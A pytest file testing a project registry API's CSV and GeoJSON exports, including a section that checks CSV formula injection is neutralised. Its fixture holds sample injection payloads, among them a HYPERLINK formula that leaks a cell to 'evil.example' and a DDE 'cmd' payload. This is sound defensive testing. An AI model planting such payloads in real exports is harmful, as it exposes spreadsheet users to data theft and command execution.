import csv
import datetime
import io
import json
import re
from decimal import Decimal

import pytest

from projects.models import Project
from registry.api.renderers import FORMULA_TRIGGERS, csv_cell
from tests import factories


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _all_json(api, query: str) -> list[dict]:
    return api.get(f"/api/v1/projects/?page_size=500&{query}").json()["results"]


@pytest.mark.parametrize("query", ["", "corridor=green", "province=PK-KP&ordering=-announced_usd"])
def test_projects_csv_matches_json(api, registry, query):
    expected = _all_json(api, query)

    response = api.get(f"/api/v1/projects/?format=csv&{query}")

    rows = list(csv.DictReader(io.StringIO(_content(response).decode("utf-8-sig"))))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert [row["slug"] for row in rows] == [item["slug"] for item in expected]
    for row, item in zip(rows, expected, strict=True):
        assert row["name"] == item["name"]
        assert row["corridor"] == item["corridor"]
        assert row["pillars"] == ";".join(item["pillars"])
        assert row["provinces"] == ";".join(item["provinces"])
        assert row["status"] == (item["status"] or "")
        assert row["announced_usd"] == ("" if item["announced_usd"] is None else str(item["announced_usd"]))
        assert row["realised_usd"] == ("" if item["realised_usd"] is None else str(item["realised_usd"]))
        assert row["participants"] == ";".join(f"{p['organisation']}:{p['role']}" for p in item["participants"])
        assert row["participant_names"] == ";".join(p["name"] for p in item["participants"])
        assert row["url"] == item["url"]


def test_projects_csv_by_accept_header(api, registry):
    response = api.get("/api/v1/projects/", HTTP_ACCEPT="text/csv")

    assert response.status_code == 200
    assert _content(response).decode("utf-8-sig").splitlines()[0].startswith("slug,name,summary,phase,corridor")


def test_projects_csv_has_download_filename(api, registry):
    response = api.get("/api/v1/projects/?format=csv")

    assert response["Content-Disposition"].startswith('attachment; filename="cpec-projects-')
    assert response["Content-Disposition"].endswith('.csv"')


def test_projects_csv_is_not_paginated(api, registry):
    response = api.get("/api/v1/projects/?format=csv&page_size=1&page=2")

    rows = list(csv.DictReader(io.StringIO(_content(response).decode("utf-8-sig"))))
    assert response.status_code == 200
    assert sorted(row["slug"] for row in rows) == ["karot-hydropower", "ml-1-railway", "rashakai-sez", "sahiwal-coal"]


@pytest.mark.parametrize("query", ["", "corridor=green", "has_location=true"])
def test_projects_geojson_matches_json(api, registry, query):
    expected = _all_json(api, query)

    response = api.get(f"/api/v1/projects/?format=geojson&{query}")

    collection = json.loads(_content(response))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    assert response["Content-Disposition"].endswith('.geojson"')
    assert collection["type"] == "FeatureCollection"
    assert [feature["properties"] for feature in collection["features"]] == expected
    for feature, item in zip(collection["features"], expected, strict=True):
        if item["latitude"] is None:
            assert feature["geometry"] is None
        else:
            assert feature["geometry"] == {"type": "Point", "coordinates": [item["longitude"], item["latitude"]]}


def test_projects_geojson_by_accept_header(api, registry):
    response = api.get("/api/v1/projects/", HTTP_ACCEPT="application/geo+json")

    assert response.status_code == 200
    assert json.loads(_content(response))["type"] == "FeatureCollection"


def test_projects_export_excludes_drafts_for_anonymous(api, registry):
    csv_text = _content(api.get("/api/v1/projects/?format=csv")).decode("utf-8-sig")
    geojson = json.loads(_content(api.get("/api/v1/projects/?format=geojson")))

    assert "chashma-5" not in csv_text
    assert "chashma-5" not in [feature["properties"]["slug"] for feature in geojson["features"]]


def test_projects_export_bad_filter_answers_json_400(api, registry):
    response = api.get("/api/v1/projects/?format=csv&status=finished")

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "status" in response.json()


def test_detail_csv_format_refused(api, registry):
    response = api.get("/api/v1/projects/karot-hydropower/?format=csv")

    assert response.status_code == 400
    assert response.json() == {"format": ["Unknown format 'csv'. Allowed: json, api."]}


@pytest.mark.parametrize(
    "path", ["/api/v1/investments/", "/api/v1/status-changes/", "/api/v1/organisations/", "/api/v1/sources/"]
)
def test_other_lists_csv_matches_json_count(api, registry, path):
    expected = api.get(f"{path}?page_size=500").json()["results"]

    response = api.get(f"{path}?format=csv")

    rows = list(csv.DictReader(io.StringIO(_content(response).decode("utf-8-sig"))))
    assert response.status_code == 200
    assert len(rows) == len(expected)
    assert list(rows[0]) == list(expected[0])


# --- formulas in CSV (OWASP CSV injection) --------------------------------------------------------------------

HOSTILE = {
    "organisation": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "project": "-2+3 Dam",
    "source": "+1+cmd|' /C calc'!A0",
    "publisher": "@SUM(1,1)",
    "status_note": "\tTab-led note",
    "indicator": "=1+1",
    "observation_note": "\rCarriage-return note",
}
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")


@pytest.fixture
def hostile_registry(registry, vocab):
    karot = registry["karot"]
    source = factories.SourceFactory(title=HOSTILE["source"], publisher=HOSTILE["publisher"])
    factories.add_participant(karot, factories.OrganisationFactory(slug="evil-corp", name=HOSTILE["organisation"]))
    factories.add_status(karot, "suspended", datetime.date(2023, 1, 1), source=source, note=HOSTILE["status_note"])
    factories.make_project(slug="minus-dam", name=HOSTILE["project"], corridor=vocab["corridors"]["green"])
    indicator = factories.IndicatorFactory(code="export-growth", name=HOSTILE["indicator"])
    factories.ObservationFactory(
        indicator=indicator, value=Decimal("-3.5"), source=source, note=HOSTILE["observation_note"]
    )
    return registry


def _csv_cells(api, path: str) -> list[str]:
    response = api.get(f"{path}?format=csv")
    assert response.status_code == 200, (path, response.status_code)
    return [cell for row in csv.reader(io.StringIO(_content(response).decode("utf-8-sig"))) for cell in row]


def _csv_lists(api) -> list[str]:
    """Every list the API root names that offers CSV."""
    return [
        url.removeprefix("http://testserver")
        for url in api.get("/api/v1/").json().values()
        if api.get(f"{url}?format=csv").status_code == 200
    ]


def test_csv_formula_cells_are_neutralised_in_every_export(api, hostile_registry):
    lists = _csv_lists(api)
    cells = [cell for path in lists for cell in _csv_cells(api, path)]

    formula_like = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)]
    assert formula_like == []
    assert {"'" + text for text in HOSTILE.values()} <= set(cells)
    assert {"/api/v1/projects/", "/api/v1/organisations/", "/api/v1/sources/", "/api/v1/observations/"} <= set(lists)


def test_csv_negative_number_is_written_as_a_number(api, hostile_registry):
    response = api.get("/api/v1/observations/?format=csv&indicator=export-growth")

    rows = list(csv.DictReader(io.StringIO(_content(response).decode("utf-8-sig"))))
    assert [row["value"] for row in rows] == ["-3.5"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (Decimal("-1500.50"), "-1500.5"),
        (-3, "-3"),
        (-0.25, "-0.25"),
        (["-a", "b"], "'-a;b"),
        (True, "true"),
    ],
)
def test_csv_cell_neutralises_text_that_starts_like_a_formula(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("path", ["/api/v1/projects/", "/api/v1/corridors/", "/api/v1/observations/"])
def test_csv_starts_with_the_utf8_byte_order_mark(api, registry, path):
    content = _content(api.get(f"{path}?format=csv"))

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\xef\xbb\xbf") == 1


def test_csv_non_ascii_text_survives_the_round_trip(api, registry):
    Project.objects.filter(slug="ml-1-railway").update(summary="±660 kV HVDC line, Matiari–Lahore")

    response = api.get("/api/v1/projects/?format=csv")

    rows = list(csv.DictReader(io.StringIO(_content(response).decode("utf-8-sig"))))
    assert [row["summary"] for row in rows if row["slug"] == "ml-1-railway"] == ["±660 kV HVDC line, Matiari–Lahore"]


def test_csv_participants_carry_names_beside_slugs(api, registry):
    response = api.get("/api/v1/projects/?format=csv")

    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(_content(response).decode("utf-8-sig")))}
    assert (rows["karot-hydropower"]["participants"], rows["karot-hydropower"]["participant_names"]) == (
        "china-three-gorges:sponsor",
        "China Three Gorges",
    )
    assert (rows["ml-1-railway"]["participants"], rows["ml-1-railway"]["participant_names"]) == (
        "wapda:implementing-agency",
        "Water and Power Development Authority",
    )
    assert rows["rashakai-sez"]["participant_names"] == ""
